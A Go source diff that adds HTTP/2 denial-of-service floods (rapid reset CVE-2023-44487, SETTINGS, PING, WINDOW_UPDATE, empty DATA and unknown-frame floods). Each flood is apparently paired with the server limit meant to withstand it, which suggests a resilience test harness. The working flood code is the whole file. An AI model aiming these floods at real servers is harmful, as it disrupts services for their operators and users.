@@ -1,0 +1,76 @@
+package hostile
+
+import (
+	"context"
+
+	"golang.org/x/net/http2"
+)
+
+// floodAttacks are frames of HTTP/2 that cost the sender little, as fast as eight connections can send them.
+func floodAttacks() []attack {
+	row := func(name, how, bound string, reads bool, send func(p *peer, body []byte) error) attack {
+		return attack{name: name, how: how, bound: bound, run: func(a *assault) { flood(a, reads, send) }}
+	}
+	return []attack{
+		row("rapid_reset", "8 connections open streams and reset each at once, before it has a message (CVE-2023-44487)",
+			"`--max-concurrent-streams`, `--max-bytes-in-flight`", true, func(p *peer, _ []byte) error {
+				if err := p.open(true); err != nil {
+					return err
+				}
+				return p.WriteRSTStream(p.stream, http2.ErrCodeCancel)
+			}),
+		row("rapid_reset_of_requests", "8 connections send whole requests of 1000 descriptors, and reset each at once",
+			"`--max-concurrent-streams`, `--max-bytes-in-flight`", true, func(p *peer, body []byte) error {
+				if err := p.send(body); err != nil {
+					return err
+				}
+				return p.WriteRSTStream(p.stream, http2.ErrCodeCancel)
+			}),
+		row("settings_flood", "8 connections send SETTINGS and never read the acknowledgements",
+			"no frame is read while 50 answers wait; 10 seconds for a client that reads", false, func(p *peer, _ []byte) error {
+				return p.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65_535})
+			}),
+		row("ping_flood", "8 connections send PING and never read the answers",
+			"a ping each second, then GOAWAY", false, func(p *peer, _ []byte) error {
+				return p.WritePing(false, [8]byte{1})
+			}),
+		row("window_flood", "8 connections send WINDOW_UPDATE",
+			"no answer, no memory", true, func(p *peer, _ []byte) error {
+				return p.WriteWindowUpdate(0, 1)
+			}),
+		row("empty_data_flood", "8 connections send empty DATA frames on one stream",
+			"no answer, no memory", true, func(p *peer, _ []byte) error {
+				if p.stream == 0 {
+					if err := p.open(true); err != nil {
+						return err
+					}
+				}
+				return p.WriteData(p.stream, false, nil)
+			}),
+		row("unknown_frames", "8 connections send frames of a type that does not exist",
+			"no answer, no memory", true, func(p *peer, _ []byte) error {
+				return p.WriteRawFrame(0xbb, 0, 0, make([]byte, 1024))
+			}),
+	}
+}
+
+// flood sends frames on eight connections until the program closes each, and then on new connections.
+func flood(a *assault, reads bool, send func(p *peer, body []byte) error) {
+	body := a.thousand(0, 10)
+	a.repeat(8, func(ctx context.Context) error {
+		p, err := a.raw(ctx)
+		if err != nil {
+			return err
+		}
+		if reads {
+			p.discard()
+		}
+		for ctx.Err() == nil {
+			a.attempts.Add(1)
+			if err := send(p, body); err != nil {
+				return err
+			}
+		}
+		return nil
+	})
+}
